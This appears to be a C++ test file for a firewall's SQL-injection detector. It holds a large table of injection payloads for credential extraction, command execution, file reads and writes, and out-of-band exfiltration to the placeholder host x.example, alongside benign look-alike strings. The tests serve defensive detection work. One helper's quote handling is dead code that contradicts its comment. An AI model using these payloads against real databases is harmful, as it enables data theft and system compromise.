// Tables of attacks that must stay black in every disguise, and of look-alikes that must stay white.
#include "detect/analyze/sql/sqli.h"

#include <algorithm>
#include <string>
#include <string_view>
#include <vector>

#include <gtest/gtest.h>

#include "detect/core/octets.h"

namespace wafd::detect {
namespace {

class Sqli : public ::testing::Test {
 protected:
  // Names of the rules that deny at `sensitivity`, in order of match.
  std::string dump(std::string_view text, Sensitivity sensitivity = Sensitivity::kBalanced) const {
    return dump_in(Location::kQuery, text, sensitivity);
  }

  std::string dump_in(Location location, std::string_view text,
                      Sensitivity sensitivity = Sensitivity::kBalanced) const {
    std::vector<Hit> hits;
    FieldContext context;
    context.location = location;
    analyzer_->analyze(text, context, hits);
    std::string names;
    for (const Hit& hit : hits) {
      const Rule& rule = analyzer_->rules()[hit.rule];
      EXPECT_LE(hit.begin, hit.end) << text;
      EXPECT_LE(hit.end, text.size()) << text;
      EXPECT_FALSE(hit.reason.empty()) << rule.name;
      if (rule.denies_from && *rule.denies_from <= sensitivity)
        names += (names.empty() ? "" : "; ") + rule.name;
    }
    return names;
  }

  bool denies(std::string_view text, Sensitivity sensitivity = Sensitivity::kBalanced) const {
    return !dump(text, sensitivity).empty();
  }

  std::unique_ptr<Analyzer> analyzer_ = make_sqli_analyzer();
};

// --- base attacks, one for each structure
// -------------------------------------------------------------------------

struct Attack {
  std::string_view text;
  std::string_view rule;  // that must be among those that deny at balanced
};

const std::vector<Attack>& attacks() {
  static const std::vector<Attack> rows = {
      // conditions
      {"1 or 1=1", "Condition with a known outcome"},
      {"1) or (1=1", "Condition with a known outcome"},
      {"1'or(1)or'1", "Condition added to a query"},
      {"@@version", "Piece of a query"},
      {"1 or username like '%admin%'", "Condition added to a query"},
      {"-1 or 2>1", "Condition with a known outcome"},
      {"' or 1=1-- ", "Condition with a known outcome"},
      {"' or 'a'='a", "Condition with a known outcome"},
      {"x' or ''='", "Condition with a known outcome"},
      {"') or ('1'='1", "Condition with a known outcome"},
      {"\" or \"1\"=\"1", "Condition with a known outcome"},
      {"1 and 1=2", "Condition with a known outcome"},
      {"' and 5 between 1 and 9 -- ", "Condition with a known outcome"},
      {"1 or 1 like 1", "Condition with a known outcome"},
      {"' or 3 in (1,2,3)#", "Condition with a known outcome"},
      {"1 and ascii(substr(database(),1,1))>64", "Condition"},
      {"' and substring(password,1,1)='a", "Condition"},
      {"' or username like 'a%", "Condition"},
      {"' or username is not null-- ", "Condition"},
      {"' or true-- ", "Condition"},
      {"' or '1", "Condition"},
      {"' and exists(select 1 from users)-- ", "Condition"},
      {"1 and (select count(*) from users)>0", "Condition"},
      // union
      {"1 union select 1,2,3", "UNION SELECT"},
      {"' union select null,version()-- ", "UNION SELECT"},
      {"-1 union all select user,password from users", "UNION SELECT"},
      {"') union select 1,(select 2),3#", "UNION SELECT"},
      {"1 union distinct select @@version", "UNION SELECT"},
      {"' union values (1,2)-- ", "UNION SELECT"},
      {"1 union(select(1),(2))", "UNION SELECT"},
      {"1 union values row(1,2),row(3,4)", "UNION SELECT"},
      {"' union values row(1)-- ", "UNION SELECT"},
      {"1 union table users limit 1", "UNION SELECT"},
      {"' union table mysql.user#", "UNION SELECT"},
      // calculations
      {"1^(ascii(substr(database(),1,1))=115)", "Condition"},
      {"1-if(1=1,1,0)", "Condition"},
      {"1'-(if(1=1,1,0))-'0", "Condition"},
      {"x'*(length(database()))-- ", "Condition"},
      {"7|(select 1)=1|length(version())", "Condition"},
      {"1 rlike(if(1,1,''))", "Condition"},
      {"price rlike(case when 1 then 1 else 0x28 end)", "Condition"},
      {"' regexp(if(1=2,1,0x28))-- ", "Condition"},
      {"1 and regexp_substring(repeat(right(char(1),0),500000000),null)", "Condition"},
      // stacked
      {"1;do $$begin perform pg_sleep(5);end$$", "Second statement"},
      {"1;do language plpgsql $$begin end$$", "Second statement"},
      {"1;call sys.system('id')", "Second statement"},
      {"x; drop table users; delete from logs", "Second statement"},
      {"1; drop table users", "Second statement"},
      {"'; delete from users where id=1-- ", "Second statement"},
      {"1; insert into users values (1,'a')", "Second statement"},
      {"'; update users set role='admin' where name='me'-- ", "Second statement"},
      {"'; exec master..xp_cmdshell 'dir'-- ", "File or command"},
      {"1; declare @q varchar(99)", "Second statement"},
      {"'; select pg_sleep(5)-- ", "wait"},
      // time
      {"1 and sleep(5)", "wait"},
      {"' or sleep(5)#", "wait"},
      {"'; waitfor delay '0:0:5'-- ", "wait"},
      {"1 and benchmark(1000000,md5(1))", "wait"},
      {"'||pg_sleep(5)-- ", "wait"},
      {"1 and 1=dbms_pipe.receive_message('a',5)", "wait"},
      {"if(now()=sysdate(),sleep(5),0)", "wait"},
      {"1-sleep(5)", "wait"},
      // error
      {"1 and extractvalue(1,concat(0x7e,version()))", "fail with data"},
      {"' and updatexml(1,concat(0x7e,user()),1)-- ", "fail with data"},
      {"1 and exp(~(select * from (select user())a))", "fail with data"},
      {"' and 1=cast((select version()) as int)-- ", "Condition"},
      {"' and 1=ctxsys.drithsx.sn(1,(select user from dual))-- ", "fail with data"},
      // out of band, files, commands
      {"'||utl_http.request('http://x.example/'||(select user from dual))-- ", "reach another machine"},
      {"1 union select load_file('/etc/passwd')", "File or command"},
      {"' union select '<?php ?>' into outfile '/var/www/x.php'-- ", "File or command"},
      {"'; copy t from program 'id'-- ", "File or command"},
      {"1;exec xp_dirtree '\\\\x.example\\a'", "reach another machine"},
      // clauses and comments
      {"1' order by 5-- ", "Clause"},
      {"1 order by 10", "Clause"},
      {"' having 1=1-- ", "Clause"},
      {"' group by id having 1=1-- ", "Clause"},
      {"1 limit 1 procedure analyse(extractvalue(1,2),1)", "Clause"},
      {"admin'-- ", "commented out"},
      {"admin'--", "commented out"},
      {"admin' #", "commented out"},
      {"admin')-- ", "commented out"},
      {"admin'/*", "commented out"},
      {"x','admin')-- ", "commented out"},
      // expressions, for sorting and the like
      {"(case when (1=1) then id else name end)", "Condition"},
      {"(select password from users where id=1)", "Subquery"},
      {"id,(select 1 from dual)", "Subquery"},
      {"xyz'||(select '' from dual)||'", "Subquery"},
      // whole statements
      {"select table_name from information_schema.tables", "own tables"},
      {"select case when (1=1) then 1/0 else null end", "statement of SQL"},
      // dialect tricks
      {"1/*!50000union*//*!50000select*/1,2", "UNION SELECT"},
      {"1e0union select 1,2", "UNION SELECT"},
      {"' or 1=1\xa0--", "Condition with a known outcome"},
      {"1 union--\nselect 1,2", "UNION SELECT"},
      {"1 union#x\nselect 1,2", "UNION SELECT"},
      {"1--1 union select 1,2", "UNION SELECT"},
      {"1 union select {x 1},2", "UNION SELECT"},
      {"'||1=(select 1)#", "Condition"},
      {"' && 1=1#", "Condition with a known outcome"},
      {"1 or '{\"a\":1}'::jsonb @> '{\"a\":1}'::jsonb", "Condition with a known outcome"},
      {"\\' or 1=1-- ", "Condition with a known outcome"},
      {"1 or '{\"a\":1}' ?& array['a']", "Condition with a known outcome"},
      {"x' or 1=", "Condition"},
      // pieces
      {"pg_sleep(", "Piece"},
      {") as total from", "Piece"},
      {"and 17=(", "Piece"},
      {"7<>8", "Piece"},
      {"upper(name)::int", "Piece"},
      {"name=1 or 1=1", "Condition with a known outcome"},
      {"current_user(", "Piece"},
      {"values (", "Piece"},
      {"union select", "Piece"},
      {"union all select", "Piece"},
      {", find_in_set('7', tags )", "Piece"},
      {";drop", "Piece"},
      {";update users", "Piece"},
      {"drop accounts;--", "Piece"},
      {"in (11, 12, 13)", "Piece"},
      {") when 5 then", "Piece"},
      {") like (", "Piece"},
      {") or (", "Piece"},
      {"f(a)::double precision", "Piece"},
      {"f(a)::character varying", "Piece"},
      {"2 as' from", "Piece"},
      {"'union a", "Piece"},
      {"name@example.com';", "Piece"},
      {"'sqloledb'", "Piece"},
      {"xp_regread", "Piece"},
      {"or a ==", "Piece"},
      {"&&(a=0)", "Piece"},
      {"log||(", "Piece"},
      {"`>65", "Piece"},
      {"'a' < 'b'", "Piece"},
      {"; sleep(5)", "wait"},
      {"x' sleep(5) '", "wait"},
      {"x'.sleep(5).'", "wait"},
      {"x' and likelihood(id,.5)--", "Condition"},
      {"x` < 0) and `", "Condition"},
      {"select*/ 1,user(", "statement of SQL"},
      {"SeLeCt * from users", "statement of SQL"},
      {"select * from users --", "statement of SQL"},
      {"select a from users union select b from c", "UNION"},
      {"select group_concat(a) from users", "statement of SQL"},
      {"case when 1 then b", "Piece"},
      // lists of values that end outside of what was opened
      {"'a','b') or 3=3#", "Condition with a known outcome"},
      {"3,4) or 'x' collate nocase = 'X' and id in (1", "Condition with a known outcome"},
      {"'a','b') having 1=1#", "Clause"},
      {"7 or 3 is distinct from 4", "Condition with a known outcome"},
      {"7 or 3 is not distinct from 3", "Condition with a known outcome"},
      {"'; drop keyspace shop; --", "commented out"},
      {"x'; flush anything #", "commented out"},
      {"1; grant dba to public", "Second statement"},
      // statements
      {"7; create subscription s connection 'host=a' publication p", "Second statement"},
      {"7; alter system set archive_command='id'", "Second statement"},
      {"7; create directory d as '/etc'", "Second statement"},
      {"7; declare f utl_file.file_type; begin f:=utl_file.fopen('D','a','w'); end;", "Second statement"},
      {"7; delete users where 1=1#", "Second statement"},
      {"7; replace into users values(1,2)#", "Second statement"},
      {"1;show full processlist#", "Second statement"},
      {"';use master;", "Second statement"},
      {"1;kill 5#", "Second statement"},
      // clauses
      {"x' on duplicate key update pw='z'#", "Clause"},
      {"0',1,1) on conflict do update set role='admin'#", "Clause"},
      {"1 limit 1 into @a", "Clause"},
      {"x', role='admin", "Piece"},
      {"if(1=1,name,price)", "Piece"},
      {"iif(1=2,1,1/0)", "Piece"},
      {"1.e.tables", "Piece"},
      {"users where sleep(6)", "wait"},
      {"1 or wait_for_executed_gtid_set('x',9)", "wait"},
  };
  return rows;
}

// Whole statements on tables of an application, as people write them to each other: they attack only what
// runs them.
TEST_F(Sqli, StatementsAsWrittenAreSuspected) {
  for (const std::string_view text :
       {"select * from users", "drop table users", "SELECT id, name FROM users WHERE name LIKE 'a%';",
        "SELECT COUNT(*) FROM orders", "-- adds a column\nALTER TABLE users ADD COLUMN b VARCHAR(3);",
        "UPDATE orders SET status='x' WHERE id = 5", "insert into users (b, c) values (1, 'x')",
        "delete from history", "CREATE TABLE t (id int primary key)", "case when a then b"}) {
    EXPECT_EQ(dump(text), "") << text;
    EXPECT_TRUE(denies(text, Sensitivity::kStrict)) << text;
  }
}

TEST_F(Sqli, FindsEachStructure) {
  for (const Attack& row : attacks())
    EXPECT_NE(dump(row.text).find(row.rule), std::string::npos) << row.text << " -> " << dump(row.text);
}

// --- variations: what changes nothing for a database changes nothing here
// --------------------------------------------

std::string swap_case(std::string_view text) {
  std::string out(text);
  bool upper = true;
  for (char& c : out) {
    if (!is_alpha(c)) continue;
    c = upper ? (is_lower(c) ? static_cast<char>(c - 32) : c) : to_lower(c);
    upper = !upper;
  }
  return out;
}

// Every space outside of quotes; the one that "-- " needs stays.
std::string respace(std::string_view text, std::string_view space) {
  std::string out;
  char quote = '\0';
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quote == '\0' && (c == '\'' || c == '"') && i > 0 && text[i - 1] != '\\') quote = '\0';
    if (c == ' ' && !(i >= 2 && text[i - 1] == '-' && text[i - 2] == '-'))
      out += space;
    else
      out += c;
  }
  return out;
}

TEST_F(Sqli, VariationsStayBlack) {
  for (const Attack& row : attacks()) {
    const std::string text(row.text);
    std::vector<std::string> variants = {swap_case(text), text + " ", " " + text};
    for (const std::string_view space :
         {"/**/", "\t", "\n", "\r\n", "\v", "\f", "  ", "/*x*/", "/*'*/", "\xa0"}) {
      // Inside of strings a comment is text, and an element of a path or a type is not a word: those rows are
      // left out.
      if (text.find("0:0:5") != std::string::npos || text.find("like '") != std::string::npos) continue;
      // A quote inside of a comment is a quote where the text began inside of a string.
      if (space == "/*'*/" && text.find('\'') == std::string::npos && text.find('"') == std::string::npos)
        continue;
      if (space == "/*'*/") continue;
      if (space.find('\n') != std::string_view::npos && text.find('#') != std::string::npos) continue;
      variants.push_back(respace(text, space));
    }
    for (const std::string& variant : variants) EXPECT_TRUE(denies(variant)) << row.text << " as " << variant;
  }
}

// --- look-alikes
// -------------------------------------------------------------------------------------------------------

TEST_F(Sqli, LookAlikesStayWhite) {
  const std::vector<std::string_view> rows = {
      // signs and quotes that are spoken of
      "Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON",
      "What is the difference between ' and \" in PHP?",
      // prose with the words of SQL
      "select the union of both and order by date",
      "1 or more like 'this one'",
      "'one' or (two) or 'three'",
      "(select committee) or (select committee) or both; see page 232",
      "Exec and Exec v. Passwd",
      "Tablet 10.1\" > C# cheat sheet > red",
      "Union Select Insurance Kill-a-watt meter \"#ff8800\" #6770",
      "\"Union Select\" <mail@example.com>",
      "Drop Table\nSleep (Beds) Ltd | Athens",
      "Mr. and Mrs. N'Diaye-Exec Jr.",
      "Björk Exec\nSleep (Beds) Ltd",
      "ERROR [main] Service - Could not exec database 'orders' (code=677)",
      "\"Having\";\"Lee\";\"Union City\";\"=3+7\"",
      "Tablet 10.1\" > \"Midnight\"",
      "O'Brien",
      "D'Angelo and O'Neil",
      "rock 'n' roll -- or not",
      "the dogs' and cats' home",
      "it's 5 o'clock and I'm here",
      "1 < 2 and 3 > 2",
      "1 or 2 persons",
      "5 and 6",
      "2 and 3 are primes",
      "yes and no",
      "either this or that",
      "I love <3 and you",
      "Please select one from the list",
      "select all from the menu and drop the rest",
      "Select your country",
      "union select committee",
      "The union of select members",
      "Student Union; Select Board",
      "drop table of contents",
      "insert into the slot",
      "update your profile and set a password",
      "delete from your list what you do not need",
      "create table for two",
      "executive order by the president",
      "order by phone",
      "group by the river",
      "where there is a will",
      "having a good time",
      "limit 10 per customer",
      "waitfor it",
      "like it or not",
      "in between days",
      "is null and void",
      "not null",
      "case when it rains",
      "to be or not to be = that is the question",
      "He said 'yes' or 'no'",
      "\"foo\" or \"bar\"",
      "\"exact phrase\" and -excluded",
      "salt & pepper || sugar",
      "AT&T and T-Mobile",
      "fish 'n' chips",
      "the '90s and the '80s",
      "Ben & Jerry's",
      "children's books -- a list",
      "50% off & free shipping",
      "C# and F#",
      "#hashtag and #another",
      "issue #42 -- fixed",
      "5' 11\" tall",
      "6'2\" and 180 lbs",
      "a' = b'",
      "f'(x) = 2x and g'(x) = 3",
      "I like it, but (and this matters) not always (",
      "see below (",
      "sad :(",
      "no more =(",
      "in (brackets)",
      "what if (maybe",
      "Die Union wählt (select) Kandidaten",
      "la unión y la selección",
      "order of the phoenix; group therapy",
      "union",
      "select",
      "drop",
      "; charset=utf-8",
      "is this your parents' or yours?",
      "the workers' union and the board",
      "'Union leaders' met today",
      "\"quoted\"",
      "'quoted'",
      "`code`",
      "O'Brien; O'Neil",
      "l'été et l'hiver",
      "5 in 1",
      "case closed when found",
      "values and beliefs",
      "std::vector<int>::iterator",
      "a::b::c",
      "&&",
      "||",
      ">=",
      "exp(-x)",
      "version 1.e",
      "Patrick O'Brien and Conan O'Neill's \"and\" or 'or' = 50/50 -- see you there",
      "insert into the slot; drop table reservations; create user guide; grant access to all; truncate text; "
      "and so on",
      "Having fun = living; group by age; order by 5 pm; limit 10 per person; union between A and B",
      "Call us (toll free) 0800-123; exec summary; declare @home; waitfor it; load data; benchmark(s)",
      "call me (maybe)",
      "5; call mom (later)",
      "1 union table lamp of oak",
      "SELECT id, total FROM orders WHERE user_id = ? AND status IN (?, ?) ORDER BY id LIMIT 20",
      "INSERT INTO orders (id, total) VALUES (?, ?)",
      "update users set seen = :now where id = :id",
      "2*sin(x)+3",
      "2*round(sqrt(5),2)",
      "5-abs(-3)",
      "100-max(a,b)",
      "3+len(a1)",
      "1-x(y)",
      "2 x (3-1)",
      "'a'+escape(b)+'c'",
      "x='+f(y)+'",
      "rock '-n-' roll",
      "I would like (if possible) two",
      "'a'; ls -l # lists",
      "the dogs'; and cats -- a tale",
      "print 'a'; print 'b' --",
      "7; grant access to all",
      "manage your users; create subscription plans; alter rule sets",
      "see the shop; use code SAVE5; show me more",
      "f('a', role='admin')",
      "<a title='x', alt='y'>",
      "if(a>b,1,2)",
      "=IF(A1=1,2,3)",
      "a distinct smell, distinct from others",
      "3 is distinct from 4",
      "on duplicate key update does what?",
      "'S', 'M', 'L' or 'XL'",
      "in 1.e.V. registered",
      // values of interfaces
      "price desc",
      "id,name,created_at",
      "-created_at,id",
      "name asc, id desc",
      "status = 'open' and priority = 'high'",
      "created_at >= 2020-01-01 and created_at <= 2020-12-31",
      "price > 10 and price < 20",
      "project = WAFD and status = Done order by created desc",
      "title:foo AND (body:bar OR body:baz)",
      "$filter=Name eq 'Milk' and Price lt 3",
      "Name eq 'O''Neil'",
      "{\"where\":{\"id\":1,\"name\":\"x\"},\"order\":\"id desc\",\"limit\":10}",
      "{\"$or\":[{\"a\":1},{\"b\":2}]}",
      "query { user(id: 1) { name, orders { id } } }",
      "mutation { updateUser(id: 1, set: {name: \"x\"}) { id } }",
      "a=1&b=2 or c=3",
      "2020-01-01 10:00:00",
      "+49 (0) 30 123-456",
      "10.0.0.1 - - [01/Jan/2020:00:00:00 +0000] \"GET /index.html HTTP/1.1\" 200 512",
      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
      "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
      "W/\"5e3-17a\"",
      "\"33a64df551425fcc55e4d42a148795d9f25f89d4\"",
      "en-US,en;q=0.9",
      "GA1.2.1234567890.1234567890",
      "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
      // code
      "if (a == 1 || b == 2) { return a && b; }",
      "var x = 'a' + b + 'c'; // comment",
      "x = a ? 'b' : 'c';",
      "for (let i = 0; i < 10; i++) { sum += i; }",
      "console.log('it works'); delete obj.key; sleep(5);",
      "await sleep(1000)",
      "time.sleep(5)",
      "import { select, union } from 'lib'",
      "d3.select('#chart').selectAll('g')",
      "const {a, b} = require('x'); // -- done",
      "<a href=\"/x\" title='y'>link</a>",
      "<select name='a'><option value=\"1\">1</option></select>",
      "/*! Bootstrap v5.0.0 | MIT */ .a{color:red}",
      "/*! For license information please see x.js.LICENSE.txt */",
      "a { color: #fff; } b > c { margin: 0 }",
      "clip-path: polygon(0 0, 100% 0, 50% 100%)",
      "git commit -m 'fix' -- file.txt",
      "echo \"hello\" && ls -la || exit 1",
      "SELECT is a keyword of SQL, FROM names the table, WHERE filters.",
      "How do I use UNION SELECT in MySQL?",
      "What does SELECT do? It reads rows from a table; DELETE removes them.",
      "Use ORDER BY 1 to sort by the first column.",
      "# Heading\n\n- item 'one'\n- item \"two\"\n\n`code` and more",
      "| a | b |\n|---|---|\n| 1 | 2 |",
      "E = mc^2 and a^2 + b^2 = c^2",
      "x=1;y=2;z=3",
      "0x1F4A9",
      "1e10",
      "3 + 4 = 7",
      "100%",
      "",
      " ",
      "'",
      "\"",
      "''",
      "\"\"",
      ";",
      "--",
      "#",
      "()",
      "null",
      "true",
  };
  for (const std::string_view row : rows) EXPECT_EQ(dump(row), "") << row;
}

TEST_F(Sqli, StrictSuspectsFragments) {
  for (const std::string_view row :
       {"'-0-'",      "x'*1*'",   "1'|2|'",  "x' or",      "1 or 2=",      "1' and '",   "' or abc!",
        "<=>",        "regexp",   "is null", "like null",  "execute proc", "mysql.user", "tempdb",
        "pg_catalog", "`name`",   "'name'",  "'\"",        "'!`",          "!@#$%^&*",   "\":[\"00",
        "\\x27",      "\\0xf00d", "day. (",  "1.e.tables", ";;x y",        "' = # '",    "' * from a where",
        "x\"=y",      "sys_eval", "xor"}) {
    EXPECT_TRUE(denies(row, Sensitivity::kStrict)) << row;
  }
}

TEST_F(Sqli, ScriptsAreUploaded) {
  const std::string script =
      "-- 12\nALTER TABLE users ADD COLUMN age INT;\nUPDATE users SET age = 5 WHERE id IN (1,2);\n"
      "INSERT INTO t VALUES (1,'a'),(2,'b'); SELECT * FROM t UNION SELECT 1,2;";
  EXPECT_EQ(dump_in(Location::kFile, script), "");
  EXPECT_EQ(dump_in(Location::kFile, "(3,'c'),(4,'d');\nINSERT INTO t VALUES (1,'a');\nDROP TABLE t;"), "");
  EXPECT_NE(dump_in(Location::kBody, script), "");
  EXPECT_NE(dump_in(Location::kFile, "name,x' or 1=1-- "), "");
  EXPECT_NE(dump_in(Location::kFile, "1 union select 1,2"), "");
}

TEST_F(Sqli, SaysWhatWasUnderstood) {
  std::vector<Hit> hits;
  const std::string_view text = "x' or 1=1-- ";
  analyzer_->analyze(text, {}, hits);
  ASSERT_FALSE(hits.empty());
  EXPECT_EQ(hits[0].reason, "closes a string, then compares constants that are always true (OR)");
  EXPECT_EQ(text.substr(hits[0].begin, hits[0].end - hits[0].begin), "or 1=1");
}

// Wherever the words stand in the text, and however much stands around them.
TEST_F(Sqli, PaddingHidesNothing) {
  const std::string padding(20000, 'a');
  std::string words;
  while (words.size() < 30000) words += "lorem ipsum ";
  for (const std::string_view attack :
       {"1 union select 1,2,3", "x';exec xp_cmdshell 'dir'--", "1 and updatexml(1,concat(0x7e,version()),1)",
        "(select password from users where id=1)", "1;insert into a values (1,'b')",
        "select a from information_schema.tables"}) {
    EXPECT_TRUE(denies(words + std::string(attack))) << attack;
    EXPECT_TRUE(denies(padding + " " + std::string(attack) + "-- " + words)) << attack;
    EXPECT_TRUE(denies(std::string(attack) + "-- " + padding)) << attack;
  }
}

// Words of which one is enough to read all of a text, by what must stand next to them or before.
TEST_F(Sqli, WordsThatCountWhereverTheyStand) {
  std::string words;
  while (words.size() < 3000) words += "lorem select ipsum union dolor copy ";
  for (const std::string_view row :
       {"; copy t from program 'id'", "copy t from program 'id'", "load data infile '/x' into table t",
        "a into outfile '/x'", "a into/**/dumpfile N'/x'", "/*!50000select*/ a", "/*!drop*/ a",
        "(/* a */select b from c where 1=1)", "(\n select b from c where 1=1)", "union all select 1,2",
        "1union(select 1,2)", "; drop table users", "; # note\ndrop table users", "; -- a\ndrop table users",
        "from information_schema.tables", ", case when 1=1 then 1 else 2 end", "pg_sleep(5)",
        "; exec xp_x 'a'"}) {
    EXPECT_NE(dump(words + std::string(row), Sensitivity::kStrict), "") << row;
  }
  EXPECT_EQ(dump(words, Sensitivity::kStrict), "");
}

TEST_F(Sqli, TimeGrowsWithTheTextAlone) {
  for (const std::string_view unit : {"'", "(", "or ", "/*", "$a$", "q'[", "select ", "case when ", "1 or ",
                                      "union select ", "@`", "a.b.", "--\n"}) {
    std::string text;
    while (text.size() < 1u << 18) text += unit;
    denies(text);
  }
}

}  // namespace
}  // namespace wafd::detect
